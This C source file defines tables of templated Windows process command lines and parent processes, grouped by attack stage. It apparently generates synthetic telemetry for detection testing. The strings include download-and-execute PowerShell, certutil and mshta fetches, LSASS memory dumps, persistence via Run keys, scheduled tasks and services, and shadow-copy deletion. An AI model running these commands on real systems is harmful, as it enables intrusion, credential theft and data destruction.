/* SPDX-License-Identifier: Apache-2.0
 *
 * Processes with their parents and command lines, by what they are up to. */
#include "message.h"

#define EXPLORER "explorer.exe", "C:\\Windows\\Explorer.EXE"
#define SERVICES "services.exe", "C:\\Windows\\system32\\services.exe"
#define SYSTEM32 "C:\\Windows\\System32\\"
#define POWERSHELL                                                             \
    "powershell.exe", SYSTEM32 "WindowsPowerShell\\v1.0\\powershell.exe"

static const struct story app[] = {
    {"{document}.exe", "C:\\Users\\{login}\\Downloads\\{document}.exe",
     "\"C:\\Users\\{login}\\Downloads\\{document}.exe\" /S", EXPLORER},
    {"{hex}.exe", "C:\\Users\\{login}\\AppData\\Roaming\\{hex}\\{hex}.exe",
     "{hex}.exe --silent --id {n}", EXPLORER},
    {"chrome.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
     "chrome.exe --type=utility --lang=vi", EXPLORER},
    {"svchost.exe", "C:\\ProgramData\\{hex}\\svchost.exe",
     "svchost.exe -k {hex}", SERVICES},
};
static const struct story script[] = {
    {POWERSHELL, "powershell.exe -nop -w hidden -enc {code}", EXPLORER},
    {POWERSHELL,
     "powershell -ep bypass -c \"IEX (New-Object Net.WebClient)."
     "DownloadString('http://{domain}/{hex}.ps1')\"",
     "cmd.exe", "cmd.exe /c start /min {hex}.bat"},
    {POWERSHELL, "powershell.exe -ExecutionPolicy Bypass -File \"{file}\"",
     "svchost.exe", "svchost.exe -k netsvcs -p -s Schedule"},
    {"wscript.exe", SYSTEM32 "wscript.exe", "wscript.exe //B \"{file}\"",
     EXPLORER},
    {"cmd.exe", SYSTEM32 "cmd.exe", "cmd.exe /c \"%TEMP%\\{hex}.bat\" {n}",
     "wscript.exe", "wscript.exe \"{document}.vbs\""},
};
static const struct story tool[] = {
    {"cmd.exe", SYSTEM32 "cmd.exe", "cmd.exe /c {1} > %TEMP%\\{hex}.txt",
     EXPLORER},
    {"cmd.exe", SYSTEM32 "cmd.exe", "cmd /q /c \"{1} 2>&1\"", "powershell.exe",
     "powershell.exe -nop -c -"},
    {"rundll32.exe", SYSTEM32 "rundll32.exe",
     "rundll32.exe C:\\ProgramData\\{hex}.dll,Start {1}", "cmd.exe",
     "cmd.exe /c {hex}.cmd"},
};
static const struct story persist[] = {
    {"reg.exe", SYSTEM32 "reg.exe",
     "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v "
     "{hex} /d \"{file}\" /f",
     "cmd.exe", "cmd.exe /c setup_{hex}.bat"},
    {"schtasks.exe", SYSTEM32 "schtasks.exe",
     "schtasks /create /tn \"{hex}\" /tr \"{file}\" /sc minute /mo 5 /f",
     "cmd.exe", "cmd.exe /c install.cmd"},
    {"sc.exe", SYSTEM32 "sc.exe",
     "sc create svc{hex} binPath= \"{file}\" start= auto", "cmd.exe",
     "cmd.exe /c {hex}.cmd"},
};
static const struct story credential[] = {
    {"rundll32.exe", SYSTEM32 "rundll32.exe",
     "rundll32.exe comsvcs.dll, MiniDump {pid} C:\\Windows\\Temp\\{hex}.dmp "
     "full",
     "cmd.exe", "cmd.exe /q /c {hex}"},
    {"net.exe", SYSTEM32 "net.exe",
     "net localgroup Administrators {login} /add", "cmd.exe", "cmd.exe"},
    {"procdump64.exe", "C:\\Users\\Public\\procdump64.exe",
     "procdump64.exe -ma lsass.exe {hex}.dmp", "powershell.exe",
     "powershell.exe -nop"},
};
static const struct story remote[] = {
    {"PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe",
     SERVICES},
    {"wmiprvse.exe", SYSTEM32 "wbem\\wmiprvse.exe",
     "wmiprvse.exe -secured -Embedding", "svchost.exe",
     "svchost.exe -k DcomLaunch"},
};
static const struct story impact[] = {
    {"vssadmin.exe", SYSTEM32 "vssadmin.exe",
     "vssadmin.exe delete shadows /all /quiet", "cmd.exe",
     "cmd.exe /c {hex}.bat"},
    {"{hex}.exe", "C:\\Windows\\Temp\\{hex}.exe",
     "C:\\Windows\\Temp\\{hex}.exe -path D:\\ -threads 8", "svchost.exe",
     "svchost.exe -k netsvcs"},
    {"net.exe", SYSTEM32 "net.exe", "net stop \"{hex}\" /y", "cmd.exe",
     "cmd.exe /c stop.cmd"},
    {"7z.exe", "C:\\Program Files\\7-Zip\\7z.exe",
     "7z.exe a -p{hex} -mhe D:\\{hex}.7z \"D:\\{document}\"", EXPLORER},
};
static const struct story updater[] = {
    {"cmd.exe", SYSTEM32 "cmd.exe", "cmd.exe /c \"%TEMP%\\upd{hex}.cmd\"",
     "AutoUpdate.exe",
     "\"C:\\Program Files\\iOffice\\AutoUpdate.exe\" /silent"},
    {POWERSHELL, "powershell.exe -w hidden -enc {code}", "VGCAUpdate.exe",
     "\"C:\\Program Files (x86)\\VGCA\\VGCAUpdate.exe\" -check"},
};
static const struct story office[] = {
    {POWERSHELL, "powershell.exe -nop -w hidden -enc {code}", "WINWORD.EXE",
     "\"WINWORD.EXE\" /n \"C:\\Users\\{login}\\Downloads\\{document}.docx\""},
    {"cmd.exe", SYSTEM32 "cmd.exe",
     "cmd.exe /c certutil -urlcache -f http://{domain}/{hex} {hex}.exe",
     "EXCEL.EXE", "\"EXCEL.EXE\" \"{document}.xls\""},
    {"mshta.exe", SYSTEM32 "mshta.exe", "mshta.exe http://{domain}/{hex}.hta",
     "WINWORD.EXE", "\"WINWORD.EXE\" /n \"{document}.doc\""},
};

#define GROUP(list)                                                            \
    {                                                                          \
        (list), sizeof(list) / sizeof((list)[0])                               \
    }

const struct stories stories[N_STORY_GROUPS] = {
    [STORY_APP] = GROUP(app),
    [STORY_SCRIPT] = GROUP(script),
    [STORY_TOOL] = GROUP(tool),
    [STORY_PERSIST] = GROUP(persist),
    [STORY_CREDENTIAL] = GROUP(credential),
    [STORY_REMOTE] = GROUP(remote),
    [STORY_IMPACT] = GROUP(impact),
    [STORY_UPDATER] = GROUP(updater),
    [STORY_OFFICE] = GROUP(office),
};
